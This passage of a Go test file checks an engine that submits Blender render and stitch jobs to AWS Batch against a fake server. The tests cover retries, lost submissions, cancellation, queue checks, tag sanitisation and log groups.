// definition's), carrying the same rules: transient exits are retried up to
// the new count, other failures still end a child at once.
func TestJobAttemptsOverrideKeepsTheRules(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{Executor: func(_ context.Context, j batchtest.ExecJob) (int, error) {
		if isStitch(j) {
			return 0, nil
		}
		if j.ArrayIndex == 0 {
			return 75, nil // transient
		}
		return 1, nil // permanent
	}})
	e := newEngine(t, srv, testSpec())
	job := testJob("attempts", 2)
	job.Attempts = 5
	h, err := e.Submit(context.Background(), job)
	if err != nil {
		t.Fatal(err)
	}
	st := wait(t, e, h)
	if st.Render != pipeline.StateFailed || srv.Attempts(h.RenderID+":0") != 5 || srv.Attempts(h.RenderID+":1") != 1 {
		t.Errorf("render %s after %d and %d attempts, want FAILED after 5 (transient) and 1 (permanent)",
			st.Render, srv.Attempts(h.RenderID+":0"), srv.Attempts(h.RenderID+":1"))
	}
	subs := srv.Submissions()
	if !subs[0].RetryOverride || subs[0].RetryAttempts != 5 || len(subs[0].RetryRules) != len(batch.RetryRules()) {
		t.Errorf("render retryStrategy %d %q, want 5 attempts and the definition's rules", subs[0].RetryAttempts, subs[0].RetryRules)
	}
	if subs[1].RetryOverride {
		t.Error("the stitch overrides the definition's retryStrategy")
	}
	if n := len(srv.JobDefinitions("framefleet-test")); n != 1 {
		t.Errorf("%d revisions, want the one setup registered", n)
	}
}

func TestStitchSubmissionFailureTerminatesRender(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{Executor: func(ctx context.Context, _ batchtest.ExecJob) (int, error) {
		<-ctx.Done()
		return 1, nil
	}})
	srv.SetRejectSubmit(func(name string) bool { return strings.HasSuffix(name, "-stitch") })
	e := newEngine(t, srv, testSpec())
	_, err := e.Submit(context.Background(), testJob("nostitch", 3))
	if err == nil || !strings.Contains(err.Error(), "stitch") {
		t.Fatalf("error %v, want a stitch submission error", err)
	}
	renderID := srv.Submissions()[0].JobID
	deadline := time.Now().Add(30 * time.Second)
	for {
		status, reason, _ := srv.JobStatus(renderID)
		if status == batchtest.Failed {
			if !strings.Contains(reason, "stitch submission failed") {
				t.Errorf("render failed with %q", reason)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("render still %s after the stitch submission failed", status)
		}
		time.Sleep(5 * time.Millisecond)
	}
	if n := srv.Calls()["TerminateJob"]; n != 1 {
		t.Errorf("TerminateJob calls = %d, want 1", n)
	}
}

// TestSubmitIsNotDuplicated: SubmitJob has no idempotency token, so a
// submission whose answer is lost must not be sent again blindly. Throttled
// calls (refused) are retried by the SDK; after any other failure the engine
// looks the job up by name and adopts it, or submits again if it is missing.
func TestSubmitIsNotDuplicated(t *testing.T) {
	tests := []struct {
		name       string
		fail       func(*batchtest.Server)
		wantSubmit int // SubmitJob calls
		wantLookup bool
	}{
		{"render answer lost", func(s *batchtest.Server) { s.FailAfterWork("SubmitJob", 1) }, 2, true},
		{"both answers lost", func(s *batchtest.Server) { s.FailAfterWork("SubmitJob", 2) }, 2, true},
		{"render refused with 500", func(s *batchtest.Server) { s.FailBeforeWork("SubmitJob", 1, 500) }, 3, true},
		{"render refused with 500 then lost", func(s *batchtest.Server) {
			s.FailBeforeWork("SubmitJob", 1, 500)
			s.FailAfterWork("SubmitJob", 1)
		}, 3, true},
		{"render throttled", func(s *batchtest.Server) { s.FailBeforeWork("SubmitJob", 2, 429) }, 4, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			srv := batchtest.Start(t, batchtest.Options{})
			e := newEngine(t, srv, testSpec())
			// Register first, so the injected faults hit SubmitJob alone.
			if _, _, err := e.EnsureJobDefinition(context.Background(), testSpec()); err != nil {
				t.Fatal(err)
			}
			tc.fail(srv)
			h, err := e.Submit(context.Background(), testJob("lost-"+strings.ReplaceAll(tc.name, " ", "-"), 3))
			if err != nil {
				t.Fatalf("Submit: %v", err)
			}
			subs := srv.Submissions()
			if len(subs) != 2 || subs[0].ArraySize != 3 || subs[1].ArraySize != 0 {
				t.Fatalf("jobs created: %v; want one render array and one stitch", jobNames(subs))
			}
			if h.RenderID != subs[0].JobID || h.StitchID != subs[1].JobID {
				t.Errorf("handle %+v, created %s and %s", h, subs[0].JobID, subs[1].JobID)
			}
			if !slices.Equal(subs[1].DependsOn, []batchtest.Dependency{{JobID: subs[0].JobID}}) {
				t.Errorf("stitch depends on %v, want the one render job", subs[1].DependsOn)
			}
			calls := srv.Calls()
			if calls["SubmitJob"] != tc.wantSubmit {
				t.Errorf("SubmitJob calls %d, want %d", calls["SubmitJob"], tc.wantSubmit)
			}
			if got := calls["ListJobs"] > 0; got != tc.wantLookup {
				t.Errorf("looked the job up: %v, want %v (calls %v)", got, tc.wantLookup, calls)
			}
			st := wait(t, e, h)
			if st.Render != pipeline.StateSucceeded || st.Stitch != pipeline.StateSucceeded {
				t.Errorf("status %+v, want both SUCCEEDED", st)
			}
		})
	}
}

// TestLostSubmitAnswerWaitsForTheJobToShow: Batch's job list lags a
// SubmitJob, so after a lost answer the engine looks the job up with backoff
// over several seconds rather than once, and adopts it instead of creating a
// second array that would run unwatched.
func TestLostSubmitAnswerWaitsForTheJobToShow(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{ListDelay: time.Second})
	newEngine(t, srv, testSpec()) // setup
	e, err := batch.New(awsConfig(), batch.Options{Queue: queue, Definition: testSpec(), Endpoint: srv.URL})
	if err != nil {
		t.Fatal(err)
	}
	srv.FailAfterWork("SubmitJob", 1)
	h, err := e.Submit(context.Background(), testJob("slow-to-show", 3))
	if err != nil {
		t.Fatal(err)
	}
	subs := srv.Submissions()
	if len(subs) != 2 || subs[0].JobID != h.RenderID || subs[1].JobID != h.StitchID {
		t.Fatalf("jobs created %v, handle %+v: want one render array (adopted after the lost answer) and one stitch", jobNames(subs), h)
	}
	if n := srv.Calls()["ListJobs"]; n < 2 {
		t.Errorf("%d look-ups: the job shows after 1s, want it found by a later look-up", n)
	}
}

func jobNames(subs []batchtest.SubmitRecord) []string {
	var out []string
	for _, s := range subs {
		out = append(out, s.JobName+"="+s.JobID)
	}
	return out
}

// TestSubmitGivesUpOnClientErrors: a refused submission (4xx) is not looked
// up or sent again.
func TestSubmitGivesUpOnClientErrors(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	srv.SetRejectSubmit(func(string) bool { return true })
	e := newEngine(t, srv, testSpec())
	if _, err := e.Submit(context.Background(), testJob("refused", 2)); err == nil {
		t.Fatal("Submit succeeded")
	}
	if c := srv.Calls(); c["SubmitJob"] != 1 || c["ListJobs"] != 0 {
		t.Errorf("calls %v: want one SubmitJob and no look-up", c)
	}
}

// TestSubmitBoundsResubmissions: when every submission fails without effect,
// the engine stops after a bounded number of tries.
func TestSubmitBoundsResubmissions(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	e := newEngine(t, srv, testSpec())
	srv.FailBeforeWork("SubmitJob", 100, 500)
	_, err := e.Submit(context.Background(), testJob("down", 2))
	if err == nil || !strings.Contains(err.Error(), "none created the job") {
		t.Fatalf("error %v, want the tries to give up", err)
	}
	if c := srv.Calls(); c["SubmitJob"] != 5 || c["ListJobs"] != 5*4 || len(srv.Submissions()) != 0 {
		t.Errorf("calls %v, %d jobs: want 5 submissions, each followed by 4 look-ups with backoff, and no job", c, len(srv.Submissions()))
	}
}

func TestRunCompletesDespiteFaultyAPI(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	srv.SetFaults(0.2, 42)
	// Some calls also take effect and answer 500 (a lost response).
	srv.SetFaultsAfterWork(0.2, 43)
	e := newEngine(t, srv, testSpec())
	h, err := e.Submit(context.Background(), testJob("faulty", 6))
	if err != nil {
		t.Fatal(err)
	}
	st := wait(t, e, h)
	if st.Render != pipeline.StateSucceeded || st.Stitch != pipeline.StateSucceeded || st.Children[pipeline.StateSucceeded] != 6 {
		t.Fatalf("status %+v, want everything SUCCEEDED", st)
	}
	faults := 0
	for _, n := range srv.Faulted() {
		faults += n
	}
	if faults == 0 {
		t.Fatal("no call was faulted: the test proves nothing")
	}
	if srv.Calls()["SubmitJob"] < 2 {
		t.Errorf("calls %v", srv.Calls())
	}
	if subs := srv.Submissions(); len(subs) != 2 || subs[0].JobID != h.RenderID || subs[1].JobID != h.StitchID {
		t.Errorf("jobs created %v, handle %+v: want exactly one render and one stitch", jobNames(subs), h)
	}
	t.Logf("calls %v, faulted %v", srv.Calls(), srv.Faulted())
}

func TestCancelTerminatesBothJobs(t *testing.T) {
	var mu sync.Mutex
	started, stopped := 0, 0
	srv := batchtest.Start(t, batchtest.Options{MaxRunning: 2, Executor: func(ctx context.Context, _ batchtest.ExecJob) (int, error) {
		mu.Lock()
		started++
		mu.Unlock()
		<-ctx.Done()
		mu.Lock()
		stopped++
		mu.Unlock()
		return 137, nil
	}})
	e := newEngine(t, srv, testSpec())
	ctx := context.Background()
	h, err := e.Submit(ctx, testJob("cancel", 4))
	if err != nil {
		t.Fatal(err)
	}
	for { // two children run, two are queued
		mu.Lock()
		n := started
		mu.Unlock()
		if n == 2 {
			break
		}
		time.Sleep(time.Millisecond)
	}
	if err := e.Cancel(ctx, h, "cancelled by @octocat"); err != nil {
		t.Fatal(err)
	}
	st := wait(t, e, h)
	if st.Render != pipeline.StateFailed || st.Stitch != pipeline.StateFailed || st.Children[pipeline.StateFailed] != 4 {
		t.Fatalf("status %+v, want all FAILED", st)
	}
	if n := srv.Calls()["TerminateJob"]; n != 2 {
		t.Errorf("TerminateJob calls = %d, want 2", n)
	}
	for _, f := range st.Failures {
		if f.Reason != "cancelled by @octocat" || f.Attempts > 1 {
			t.Errorf("failure %+v: want the cancel reason and no retry", f)
		}
	}
	if _, reason, _ := srv.JobStatus(h.StitchID); reason != "cancelled by @octocat" {
		t.Errorf("stitch reason %q", reason)
	}
	mu.Lock()
	defer mu.Unlock()
	if started != 2 || stopped != 2 {
		t.Errorf("started %d, stopped %d running children; want 2 and 2", started, stopped)
	}
}

// TestStatusCallsDoNotGrowWithChunks counts the Batch calls of the same polls
// for a small and a ten times bigger array: they must be equal.
func TestStatusCallsDoNotGrowWithChunks(t *testing.T) {
	calls := map[int]map[string]int{}
	for _, chunks := range []int{20, 200} {
		release := make(chan struct{})
		srv := batchtest.Start(t, batchtest.Options{MaxRunning: 8, Executor: func(ctx context.Context, j batchtest.ExecJob) (int, error) {
			if j.ArrayIndex == 0 {
				return 1, nil // one child fails at once: failure details are fetched
			}
			select {
			case <-release:
			case <-ctx.Done():
			}
			return 0, nil
		}})
		e := newEngine(t, srv, testSpec())
		ctx := context.Background()
		h, err := e.Submit(ctx, testJob(fmt.Sprintf("calls%d", chunks), chunks))
		if err != nil {
			t.Fatal(err)
		}
		for {
			if st, _, _ := srv.JobStatus(h.RenderID + ":0"); st == batchtest.Failed {
				break
			}
			time.Sleep(time.Millisecond)
		}
		srv.ResetCalls()
		for range 10 {
			st, err := e.Status(ctx, h)
			if err != nil {
				t.Fatal(err)
			}
			if len(st.Failures) != 1 || st.Failures[0].Index != 0 {
				t.Fatalf("failures %+v, want child 0", st.Failures)
			}
		}
		calls[chunks] = srv.Calls()
		close(release)
		_ = e.Cancel(ctx, h, "done")
	}
	t.Logf("calls for 10 polls: 20 children %v, 200 children %v", calls[20], calls[200])
	if fmt.Sprint(calls[20]) != fmt.Sprint(calls[200]) {
		t.Errorf("calls grew with the array size: %v vs %v", calls[20], calls[200])
	}
	if calls[20]["DescribeJobs"] > 11 || calls[20]["ListJobs"] > 1 {
		t.Errorf("10 polls made %v: want one DescribeJobs per poll plus one failure lookup", calls[20])
	}
}

// TestChildListingUsesFullPages: listing an array's children by status asks
// for Batch's largest page (1000), so a 250-child array takes one ListJobs
// call per status, not one per 100 children.
func TestChildListingUsesFullPages(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{MaxRunning: 250})
	e := newEngine(t, srv, testSpec())
	h, err := e.Submit(context.Background(), testJob("pages", 250))
	if err != nil {
		t.Fatal(err)
	}
	st := wait(t, e, h)
	if st.Render != pipeline.StateSucceeded || len(st.Attempts) != 251 {
		t.Fatalf("render %s with %d attempts, want SUCCEEDED with 250 children and the stitch", st.Render, len(st.Attempts))
	}
	// The final poll lists SUCCEEDED and FAILED children once each.
	if n := srv.Calls()["ListJobs"]; n != 2 {
		t.Errorf("ListJobs calls = %d, want 2 (one page of up to 1000 per status)", n)
	}
}

func TestBlenderVersion(t *testing.T) {
	ctx := context.Background()
	srv := batchtest.Start(t, batchtest.Options{})
	setup := newEngine(t, srv, testSpec())
	if _, _, err := setup.EnsureJobDefinition(ctx, testSpec()); err != nil {
		t.Fatal(err)
	}
	noVersion := testSpec()
	noVersion.Name, noVersion.BlenderVersion = "no-version", ""
	if _, _, err := setup.EnsureJobDefinition(ctx, noVersion); err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name string
		spec batch.Spec
		want string
		err  string
	}{
		{"from spec", testSpec(), "3.4.1", ""},
		{"from existing definition", batch.Spec{Name: "framefleet-test"}, "3.4.1", ""},
		{"from existing revision", batch.Spec{Name: "framefleet-test:1"}, "3.4.1", ""},
		{"definition without version", batch.Spec{Name: "no-version"}, "", "does not say which Blender"},
		{"missing definition", batch.Spec{Name: "nothing"}, "", "framefleet setup"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := newEngine(t, srv, tc.spec)
			got, err := e.BlenderVersion(ctx)
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("error %v, want one mentioning %q", err, tc.err)
				}
				return
			}
			if err != nil || got != tc.want {
				t.Fatalf("BlenderVersion = %q, %v; want %q", got, err, tc.want)
			}
		})
	}
}

func TestStatusOfForeignHandles(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	e := newEngine(t, srv, testSpec())
	_, err := e.Status(context.Background(), pipeline.Handle{Engine: "batch", RenderID: "nope", StitchID: "nope2"})
	if !errors.Is(err, batch.ErrJobNotFound) {
		t.Fatalf("error %v, want ErrJobNotFound", err)
	}
	local := pipeline.Handle{Engine: "local", RenderID: "r", StitchID: "s"}
	if _, err := e.Status(context.Background(), local); err == nil || !strings.Contains(err.Error(), "local engine") {
		t.Errorf("Status of a local handle: %v", err)
	}
	if err := e.Cancel(context.Background(), local, "x"); err == nil {
		t.Error("Cancel of a local handle succeeded")
	}
	if n := srv.Calls()["TerminateJob"]; n != 0 {
		t.Errorf("%d TerminateJob calls for a local handle", n)
	}
}

func TestNewRejectsBadOptions(t *testing.T) {
	tests := []struct {
		name string
		opts batch.Options
		want string
	}{
		{"no queue", batch.Options{Definition: testSpec()}, "no job queue"},
		{"no definition", batch.Options{Queue: "q"}, "no job definition"},
		{"bad spec", batch.Options{Queue: "q", Definition: batch.Spec{Image: "img", Attempts: 20}}, "1 to 10"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := batch.New(awsConfig(), tc.opts)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want one mentioning %q", err, tc.want)
			}
		})
	}
}

func TestCheckQueue(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{Queues: []string{queue}})
	q, err := newEngine(t, srv, testSpec()).CheckQueue(context.Background())
	if err != nil || q.Name != queue || q.State != "ENABLED" || q.Status != "VALID" || !strings.HasSuffix(q.ARN, "job-queue/"+queue) {
		t.Fatalf("CheckQueue = %+v, %v", q, err)
	}
	e, err := batch.New(awsConfig(), batch.Options{Queue: "missing", Definition: testSpec(), Endpoint: srv.URL})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.CheckQueue(context.Background()); !errors.Is(err, batch.ErrQueueNotReady) || !strings.Contains(err.Error(), "missing not found") {
		t.Fatalf("CheckQueue of a missing queue: %v", err)
	}
}

// TestQueuesThatCannotRunTheJobsAreRefused: setup (CheckQueue) and the
// engine (before its first submission) refuse a fair-share queue, whose jobs
// all need a share identifier, and a queue of the other platform than the
// job definition's, with a message saying which.
func TestQueuesThatCannotRunTheJobsAreRefused(t *testing.T) {
	fargate := testSpec()
	fargate.Name = "ff-fargate"
	fargate.Platform = batch.PlatformFargate
	fargate.VCPUs, fargate.MemoryMiB = 1, 2048
	fargate.ExecutionRoleARN = "arn:aws:iam::123456789012:role/exec"
	tests := []struct {
		name  string
		queue batchtest.QueueSettings
		spec  batch.Spec
		want  string // "" = accepted
	}{
		{"EC2 definition, EC2 queue", batchtest.QueueSettings{ComputeType: "EC2"}, testSpec(), ""},
		{"EC2 definition, Spot queue", batchtest.QueueSettings{ComputeType: "SPOT"}, testSpec(), ""},
		{"Fargate definition, Fargate Spot queue", batchtest.QueueSettings{ComputeType: "FARGATE_SPOT"}, fargate, ""},
		{"fair-share queue", batchtest.QueueSettings{SchedulingPolicyARN: "arn:aws:batch:us-east-1:123456789012:scheduling-policy/fair"},
			testSpec(), "fair-share scheduling policy arn:aws:batch:us-east-1:123456789012:scheduling-policy/fair, so every job submitted to it needs a share identifier"},
		{"Fargate definition, EC2 queue", batchtest.QueueSettings{ComputeType: "SPOT"}, fargate, "the job definition is for Fargate but job queue " + queue + " has only EC2 compute environments (SPOT)"},
		{"EC2 definition, Fargate queue", batchtest.QueueSettings{ComputeType: "FARGATE"}, testSpec(), "the job definition is for EC2 but job queue " + queue + " has only Fargate compute environments (FARGATE)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			srv := batchtest.Start(t, batchtest.Options{QueueSettings: map[string]batchtest.QueueSettings{queue: tc.queue}})
			e := newEngine(t, srv, tc.spec)
			_, checkErr := e.CheckQueue(context.Background())
			h, submitErr := e.Submit(context.Background(), testJob("queue", 2))
			if tc.want == "" {
				if checkErr != nil || submitErr != nil {
					t.Fatalf("CheckQueue: %v; Submit: %v; want both to pass", checkErr, submitErr)
				}
				wait(t, e, h)
				return
			}
			for what, err := range map[string]error{"CheckQueue": checkErr, "Submit": submitErr} {
				if !errors.Is(err, batch.ErrQueueUnsuitable) || !strings.Contains(err.Error(), tc.want) {
					t.Errorf("%s: %v; want an error saying %q", what, err, tc.want)
				}
			}
			if n := len(srv.Submissions()); n != 0 {
				t.Errorf("%d jobs submitted to a queue that cannot run them", n)
			}
		})
	}
}

func TestSetupRefusesEC2DefinitionsWithoutJobRole(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	spec := testSpec()
	spec.JobRoleARN = ""
	_, _, err := newEngineWithoutSetup(t, srv, spec).EnsureJobDefinition(context.Background(), spec)
	if err == nil || !strings.Contains(err.Error(), "no job role") || !strings.Contains(err.Error(), "batch.job_role_arn") {
		t.Fatalf("EnsureJobDefinition without a job role: %v; want a refusal naming batch.job_role_arn", err)
	}
	if n := srv.Calls()["RegisterJobDefinition"]; n != 0 {
		t.Errorf("%d registrations, want none", n)
	}
}

func TestTagValuesAreValidEverywhere(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Scene", "Scene"},
		{"shot 1: take/2 @home +=-._", "shot 1: take/2 @home +=-._"},
		{"Café (final) #3, v2!", "Caf_ _final_ _3_ v2_"},
		{"場景", "__"},
		{strings.Repeat("x", 300), strings.Repeat("x", 256)},
		{strings.Repeat("é", 300), strings.Repeat("_", 256)},
	}
	for _, tc := range tests {
		if got := batch.TagValue(tc.in); got != tc.want {
			t.Errorf("TagValue(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	srv := batchtest.Start(t, batchtest.Options{})
	e := newEngine(t, srv, testSpec())
	job := testJob("tags", 2)
	job.Scene = "Café (final)"
	h, err := e.Submit(context.Background(), job)
	if err != nil {
		t.Fatal(err)
	}
	for _, sub := range srv.Submissions() {
		if got := sub.Tags[batch.SceneTag]; got != "Caf_ _final_" {
			t.Errorf("%s scene tag %q, want %q", sub.JobName, got, "Caf_ _final_")
		}
	}
	wait(t, e, h)
}

// A log group in the spec sends the workers' logs there (the stack's group,
// which expires them), and the revision is still recognised as the spec's.
func TestDefinitionLogsToTheLogGroup(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	spec := testSpec()
	spec.LogGroup = "/aws/batch/framefleet"
	e := newEngine(t, srv, spec)
	if d := srv.JobDefinitions(spec.Name); len(d) != 1 || d[0].LogGroup() != spec.LogGroup {
		t.Fatalf("definitions %+v: want one logging to %s", d, spec.LogGroup)
	}
	h, err := e.Submit(context.Background(), testJob("logs", 2))
	if err != nil {
		t.Fatal(err)
	}
	wait(t, e, h)
	other := spec
	other.LogGroup = "/aws/batch/elsewhere"
	if _, err := newEngineWithoutSetup(t, srv, other).Submit(context.Background(), testJob("other-logs", 2)); !errors.Is(err, batch.ErrDefinitionMismatch) {
		t.Errorf("Submit with another log group: %v; want ErrDefinitionMismatch (setup has not registered it)", err)
	}
}
